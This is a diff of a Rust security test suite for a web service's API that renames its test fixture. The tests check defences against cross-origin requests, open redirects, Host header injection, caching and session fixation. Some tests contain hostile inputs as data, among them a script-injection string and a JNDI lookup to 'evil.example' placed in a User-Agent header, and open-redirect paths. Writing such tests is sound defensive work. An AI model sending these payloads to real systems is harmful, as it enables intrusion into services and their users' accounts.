@@ -1,4 +1,4 @@
-use erawan_testkit::{Actor, House, PASSWORD, both_engines};
+use erawan_testkit::{Actor, PASSWORD, TestServer, both_engines};
 use reqwest::header::{
     ACCESS_CONTROL_ALLOW_ORIGIN, CACHE_CONTROL, CONTENT_SECURITY_POLICY, LOCATION, X_FRAME_OPTIONS,
 };
@@ -45,20 +45,20 @@ fn keeps_the_session(call: &Call) -> bool {
 }
 
 /// Everything about the member that nobody decides for themselves.
-async fn standing(house: &House, member: &Actor) -> Option<String> {
+async fn standing(server: &TestServer, member: &Actor) -> Option<String> {
     let standing = format!(
         "SELECT kind || ' ' || is_disabled || ' ' || username || ' ' || (referrer_id IS NULL) || ' ' || \
          (SELECT COUNT(*) FROM member_claim WHERE proven_at_ms IS NOT NULL) FROM member WHERE username = '{}'",
         member.username
     );
-    house.query_text(&standing).await
+    server.query_text(&standing).await
 }
 
 both_engines! {
-    async fn a34_no_write_lets_a_member_decide_what_is_not_for_members(house: &House) {
-        let member = house.member("greedy8888").await;
-        let things = Things::of(house, &member).await;
-        let before = (standing(house, &member).await, member.get("/wps/wallets/gcs").await.ok()["sumBalance"].clone());
+    async fn a34_no_write_lets_a_member_decide_what_is_not_for_members(server: &TestServer) {
+        let member = server.member("greedy8888").await;
+        let things = Things::of(server, &member).await;
+        let before = (standing(server, &member).await, member.get("/wps/wallets/gcs").await.ok()["sumBalance"].clone());
         assert!(before.0.is_some());
         let mut tried = 0;
         for call in table().iter().filter(|call| is_write(call) && keeps_the_session(call)) {
@@ -83,16 +83,16 @@ both_engines! {
             tried += 1;
         }
         assert!(tried > 20, "{tried} writes were tried");
-        let mut again = house.visitor().at("10.31.0.1");
+        let mut again = server.visitor().at("10.31.0.1");
         again.log_in("greedy8888").await;
         assert_eq!(again.get("/wps/member/info").await.ok()["type"], 0);
-        let after = (standing(house, &member).await, again.get("/wps/wallets/gcs").await.ok()["sumBalance"].clone());
+        let after = (standing(server, &member).await, again.get("/wps/wallets/gcs").await.ok()["sumBalance"].clone());
         assert_eq!(after, before);
     }
 
-    async fn a35_a_page_of_somebody_else_can_neither_send_nor_read(house: &House) {
-        let member = house.member("surfing888").await;
-        let things = Things::of(house, &member).await;
+    async fn a35_a_page_of_somebody_else_can_neither_send_nor_read(server: &TestServer) {
+        let member = server.member("surfing888").await;
+        let things = Things::of(server, &member).await;
         for call in table() {
             let (method, path) = parts(&call, &things);
             let preflight = member
@@ -112,11 +112,11 @@ both_engines! {
             for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"] {
                 for origin in ["https://evil.example", "null"] {
                     let request = browser
-                        .request(method.clone(), format!("{}{path}", house.url))
+                        .request(method.clone(), format!("{}{path}", server.url))
                         .header("Origin", origin)
                         .header("Content-Type", kind)
                         .body(body.clone());
-                    let response = request.send().await.expect("the house answers");
+                    let response = request.send().await.expect("the server answers");
                     assert!(!response.status().is_success(), "{} takes {kind} from {origin}", call.operation);
                     assert!(response.headers().get(ACCESS_CONTROL_ALLOW_ORIGIN).is_none(), "{}", call.operation);
                 }
@@ -125,9 +125,9 @@ both_engines! {
         member.get("/wps/member/info").await.ok();
     }
 
-    async fn a35_json_is_taken_as_json_only(house: &House) {
-        let visitor = house.visitor();
-        house.member("ordinary88").await;
+    async fn a35_json_is_taken_as_json_only(server: &TestServer) {
+        let visitor = server.visitor();
+        server.member("ordinary88").await;
         for kind in ["text/plain", "application/x-www-form-urlencoded", "application/jsonx", ""] {
             let body = json!({ "username": "ordinary88", "password": PASSWORD }).to_string();
             let request = visitor.request(Method::POST, "/wps/session/login").header("Content-Type", kind).body(body);
@@ -135,7 +135,7 @@ both_engines! {
         }
     }
 
-    async fn a35_nothing_lets_itself_be_framed_but_games_by_the_house(house: &House) {
+    async fn a35_nothing_lets_itself_be_framed_but_games_by_the_house(server: &TestServer) {
         let browser = Client::new();
         for (path, options, ancestors) in [
             ("/m/home", "DENY", "frame-ancestors 'none'"),
@@ -144,16 +144,16 @@ both_engines! {
             ("/wps/system/status", "DENY", "frame-ancestors 'none'"),
             ("/dev/outbox", "DENY", "frame-ancestors 'none'"),
         ] {
-            let response = browser.get(format!("{}{path}", house.url)).send().await.expect("an answer");
+            let response = browser.get(format!("{}{path}", server.url)).send().await.expect("an answer");
             let header = |name| response.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
             assert_eq!(header(X_FRAME_OPTIONS), options, "{path}");
             assert!(header(CONTENT_SECURITY_POLICY).contains(ancestors), "{path}");
         }
     }
 
-    async fn a37_whatever_the_caller_calls_us_no_answer_repeats_it(house: &House) {
-        let member = house.member("spelling88").await;
-        let things = Things::of(house, &member).await;
+    async fn a37_whatever_the_caller_calls_us_no_answer_repeats_it(server: &TestServer) {
+        let member = server.member("spelling88").await;
+        let things = Things::of(server, &member).await;
         for call in table().iter().filter(|call| keeps_the_session(call) && !call.operation.ends_with("/wps/stream")) {
             let request = honest(&member, call, &things)
                 .header("Host", "evil.example")
@@ -168,9 +168,9 @@ both_engines! {
         }
     }
 
-    async fn a37_answers_to_a_member_are_kept_by_nobody_on_the_way(house: &House) {
-        let member = house.member("private888").await;
-        let things = Things::of(house, &member).await;
+    async fn a37_answers_to_a_member_are_kept_by_nobody_on_the_way(server: &TestServer) {
+        let member = server.member("private888").await;
+        let things = Things::of(server, &member).await;
         for call in table().iter().filter(|call| keeps_the_session(call)) {
             let response = honest(&member, call, &things).send().await.expect("an answer");
             let kept = response.headers().get(CACHE_CONTROL).and_then(|value| value.to_str().ok()).unwrap_or_default();
@@ -179,8 +179,8 @@ both_engines! {
         }
     }
 
-    async fn a37_what_a_browser_calls_itself_is_not_shown_to_anybody(house: &House) {
-        let mut member = house.member("mistrust88").await;
+    async fn a37_what_a_browser_calls_itself_is_not_shown_to_anybody(server: &TestServer) {
+        let mut member = server.member("mistrust88").await;
         let name = "<script>alert(1)</script> Firefox/1.0\u{9}${jndi:ldap://evil.example/a} Android";
         let body = json!({ "username": "mistrust88", "password": PASSWORD });
         let login = member.request(Method::POST, "/wps/session/login").header("User-Agent", name).json(&body);
@@ -193,23 +193,23 @@ both_engines! {
         }
     }
 
-    async fn a24_an_address_nobody_knows_leads_home_and_nowhere_else(house: &House) {
+    async fn a24_an_address_nobody_knows_leads_home_and_nowhere_else(server: &TestServer) {
         let browser = Client::builder().redirect(Policy::none()).build().expect("a browser");
         for path in ["/nowhere", "//evil.example/m", "/%5Cevil.example", "/m%2f..%2f..//evil.example", "/?returnTo=https://evil.example", "/https:/evil.example"] {
-            let response = browser.get(format!("{}{path}", house.url)).send().await.expect("an answer");
+            let response = browser.get(format!("{}{path}", server.url)).send().await.expect("an answer");
             if let Some(location) = response.headers().get(LOCATION) {
                 assert_eq!(location.to_str().expect("an address"), "/m/home", "{path}");
             }
         }
     }
 
-    async fn a17_a_session_somebody_else_chose_is_never_the_ones_who_logs_in(house: &House) {
-        house.member("targeted88").await;
-        let attacker = house.member("attacker88").await;
+    async fn a17_a_session_somebody_else_chose_is_never_the_ones_who_logs_in(server: &TestServer) {
+        server.member("targeted88").await;
+        let attacker = server.member("attacker88").await;
         let chosen = attacker.token.clone().expect("a token");
         // The victim's browser was made to send the attacker's token, or one that never was.
         for planted in [chosen.clone(), "ab".repeat(32)] {
-            let mut victim = house.visitor().at("10.33.0.1");
+            let mut victim = server.visitor().at("10.33.0.1");
             victim.token = Some(planted.clone());
             let body = json!({ "username": "targeted88", "password": PASSWORD, "token": planted, "sessionId": planted });
             let answer = victim.post("/wps/session/login", body).await.ok();
@@ -218,7 +218,7 @@ both_engines! {
             assert_eq!(victim.get("/wps/member/info").await.ok()["account"], "targeted88");
         }
         assert_eq!(attacker.get("/wps/member/info").await.ok()["account"], "attacker88");
-        let mut joining = house.visitor().at("10.33.0.2");
+        let mut joining = server.visitor().at("10.33.0.2");
         joining.token = Some(chosen.clone());
         let form = json!({
             "username": "joining888", "password": PASSWORD, "confirmPassword": PASSWORD, "birthday": "1990-05-17",
